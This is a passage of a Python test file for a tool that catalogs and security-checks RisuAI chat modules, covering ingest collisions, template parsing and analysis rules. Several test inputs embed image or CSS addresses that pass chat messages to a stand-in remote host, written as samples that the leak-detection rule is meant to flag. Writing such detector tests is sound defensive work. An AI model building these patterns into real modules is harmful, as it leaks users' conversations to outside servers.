        assert run_cli(*args, "--catalog", cat).returncode == 0
    doc_path = cat / f"{cid}.json"
    doc = json.loads(doc_path.read_text("utf-8"))
    doc["projection"]["title"] = "손으로 고친 제목"
    doc_path.write_text(json.dumps(doc, ensure_ascii=False, indent=1), "utf-8")
    edited, log = doc_path.read_bytes(), (cat / "transitions.ndjson").read_bytes()
    if how == "ingest":
        done = run_cli("ingest", "src", "-o", cat, cwd=tmp_path)
        assert done.returncode == 0, done.stderr
        assert "nothing is recorded on top of an unrecorded change" in done.stdout + done.stderr
    else:
        done = run_cli("replay", "run", doc_path, "-x",
                       ROOT / "fixtures" / "replay" / "anchor-edit.yaml", "--update")
        assert done.returncode == 2 and ": unrecorded-change: " in done.stderr, done.stderr
    assert doc_path.read_bytes() == edited
    assert (cat / "transitions.ndjson").read_bytes() == log


def test_two_files_of_one_format_are_no_other_container(tmp_path: Path) -> None:
    """Two ``.risum`` of one post, one with its description edited (which the projection
    leaves out): merged as "the same module in another container", the second's digest
    dropped without a word.  Two files of one format are two modules: an id collision."""
    src = tmp_path / "src"
    (src / "sub").mkdir(parents=True)
    module = json.loads((ROOT / "fixtures" / "sources" / "186123400_mood-tracker.json")
                        .read_text("utf-8"))
    for where, text in ((src / "a.json", "first"), (src / "sub" / "b.json", "second")):
        where.write_text(json.dumps({**module, "description": text}), "utf-8")
    for name, folder in (("a", src), ("b", src / "sub")):
        assert run_cli("pack", folder / f"{name}.json", "-o",
                       folder / f"186123400_mood-tracker-{name}.risum").returncode == 0
        (folder / f"{name}.json").unlink()
    done = run_cli("ingest", src, "-o", tmp_path / "cat", "--json")
    assert done.returncode == 1, done.stderr
    out = json.loads(done.stdout)
    assert len(out["collisions"]) == 1 and "id-collision" in out["collisions"][0]
    assert "another container" not in done.stdout


def test_two_notes_files_for_one_module_are_notes_ambiguous(tmp_path: Path) -> None:
    """Two notes files whose ``for:`` names one module: the first by name was applied
    silently and the other called an orphan; docs/errors.md's notes-ambiguous was never
    said."""
    import shutil

    shutil.copytree(ROOT / "fixtures" / "sources", tmp_path / "src")
    notes = tmp_path / "cat" / "notes"
    notes.mkdir(parents=True)
    module = json.loads((ROOT / "fixtures" / "sources" / "186123400_mood-tracker.json")
                        .read_text("utf-8"))
    rid = module["id"]
    for t in ("B", "C"):
        (notes / f"curator-{t}.yaml").write_text(
            f'notes: notes-v1\nfor:\n  risuai_id: "{rid}"\nprojection:\n  title: "{t}"\n',
            "utf-8")
    done = run_cli("ingest", "src", "-o", "cat", cwd=tmp_path)
    assert done.returncode == 1
    assert "notes-ambiguous" in done.stderr and "curator-B.yaml, curator-C.yaml" in done.stderr
    assert "matches no component" not in done.stdout + done.stderr
    assert not list((tmp_path / "cat").glob("module.risu.186123400.*.json"))


@pytest.mark.parametrize("text, runs", [
    ("{{#pure}}{{setvar::a::1}}{{/pure}}", False),
    ("{{#escape}}{{setvar::a::1}}{{/escape}}", False),
    ("{{#PURE}}{{setvar::a::1}}{{/PURE}}", True),  # (RisuAI compares the tag's text exactly)
    ("{{#pure }}{{setvar::a::1}}{{/pure}}", True),
    ("{{ #pure}}{{setvar::a::1}}{{/pure}}", True),
    ("{{#Escape}}{{setvar::a::1}}{{/Escape}}", True),
])
def test_a_pure_block_is_the_one_risuai_reads(text: str, runs: bool) -> None:
    from risutools.analysis.cbs import scan_cbs

    assert ("setvar" in [t.name for t in scan_cbs(text).tags]) is runs


@pytest.mark.parametrize("attr, name", [
    ('risu-trigger="show-panel"', "show-panel"),  # (it was "show": cut at the "-")
    ("risu-trigger='상태창'", "상태창"),  # (it was not found)
    ('risu-trigger="Pay{{blank}}load"', "*"),  # (computed: it was "Pay")
])
def test_a_risu_trigger_is_its_whole_value(tmp_path: Path, attr: str, name: str) -> None:
    a = _analysis(tmp_path, {"regex": [{"comment": "", "in": "x", "type": "editdisplay",
                                        "flag": "g", "out": f"<button {attr}>go</button>"}]})
    assert [b["name"] for b in a["button_callbacks"]] == [name]  # type: ignore[attr-defined]


@pytest.mark.parametrize("move", ["folder", "yaml"])
def test_ingest_writes_no_second_document_of_an_id(tmp_path: Path, move: str) -> None:
    """A pending document moved to ``reviewed/`` (or written as YAML): ingest looked only at
    ``CATALOG/<id>.json`` and wrote a second, candidate document of the id (MC104; every
    lifecycle command then refused the id as ambiguous), exit 0.  Now it is an id collision
    naming where the document is, and nothing is written."""
    import shutil

    import yaml

    shutil.copytree(ROOT / "fixtures" / "sources", tmp_path / "src")
    cat = tmp_path / "cat"
    assert run_cli("ingest", "src", "-o", cat, "-q", cwd=tmp_path).returncode == 0
    cid = "module.risu.174678332.context-cutter"
    path = cat / f"{cid}.json"
    if move == "folder":
        (cat / "reviewed").mkdir()
        moved = cat / "reviewed" / path.name
        path.rename(moved)
    else:
        moved = cat / f"{cid}.yaml"
        moved.write_text(yaml.safe_dump(json.loads(path.read_text("utf-8")),
                                        allow_unicode=True), "utf-8")
        path.unlink()
    done = run_cli("ingest", "src", "-o", cat, cwd=tmp_path)
    assert done.returncode == 1
    assert f"id-collision: {cid} has its document there" in done.stdout + done.stderr
    assert not path.exists() and moved.exists()
    assert run_cli("validate", cat, "-f", "concise").returncode == 0


@pytest.mark.parametrize("out, leaks", [
    ('<img src="{{getvar::u}}$1">', True),  # (u: the module's own "https://h/?q=")
    ('<div style="background:url({{getvar::u}}{{lastmessage}})"></div>', True),
    ('<img src="{{getvar::avatar}}">', False),  # (a variable alone: no chat data after it)
    ('<img src="{{raw::icon}}">', False),  # (an asset of the module's own)
])
def test_an_address_that_is_a_variable_then_chat_data_leaks(tmp_path: Path, out: str,
                                                           leaks: bool) -> None:
    """A module sets ``u`` to a remote address, then shows ``<img src="{{getvar::u}}$1">``:
    each message is sent there; no scheme stood in the attribute, so nothing was said."""
    a = _analysis(tmp_path, {"regex": [{"comment": "", "in": "(.+)", "type": "editdisplay",
                                        "flag": "g", "out": out}]})
    assert ("RA305" in _rules(a)) is leaks


@pytest.mark.parametrize("flag, said", [("false", "read as granted"), ("", "read as not granted"),
                                        (0, "read as not granted"), ([], "read as granted")])
def test_a_low_level_access_of_another_type_says_how_it_is_read(tmp_path: Path, flag: object,
                                                               said: str) -> None:
    """RisuAI tests the flag as JavaScript does (``"false"`` is granted); RA801 said it
    "was read as empty" while the analysis granted it."""
    a = _analysis(tmp_path, {"lowLevelAccess": flag})
    ra801 = [f["message"] for f in a["findings"] if f["rule"] == "RA801"]  # type: ignore[attr-defined]
    assert len(ra801) == 1 and said in ra801[0], ra801
    assert (a["low_level_access"] is True) == (said == "read as granted")


def test_a_listener_kind_from_a_table_field_is_its_hook(tmp_path: Path) -> None:
    """``listenEdit(K.req, f)`` with ``K = {req = "editRequest"}``: the kind is read as a
    state call's key is (it was RA105, an unknown listener: an editRequest listener, which
    sees the whole prompt, hidden)."""
    code = 'local K = {req = "editRequest"}\nlistenEdit(K.req, function(t, d) return d end)'
    a = _analysis(tmp_path, {"trigger": [{"comment": "", "type": "start", "conditions": [],
                                          "effect": [{"type": "triggerlua", "code": code}]}]})
    assert [h["name"] for h in a["hooks"]] == ["hook.edit_request"]  # type: ignore[attr-defined]
    assert "RA105" not in _rules(a)
